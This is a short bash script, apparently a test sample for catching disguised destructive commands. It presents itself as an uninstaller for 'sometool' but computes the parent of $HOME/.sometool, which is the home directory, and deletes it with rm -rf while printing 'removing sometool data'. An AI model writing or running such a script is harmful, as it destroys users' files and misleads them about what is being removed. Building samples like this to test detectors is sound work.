#!/usr/bin/env bash
# Evasion: delete the home directory. An "uninstall" script removes the
# tool's data directory's parent, computed with ${dir%/*} (the dirname
# idiom): the data directory is $HOME/.sometool, so its parent is the home.
set -euo pipefail
data_dir="$HOME/.sometool"
echo "removing sometool data"
rm -f "$data_dir/lock"
rm -rf -- "${data_dir%/*}"
echo "uninstalled"
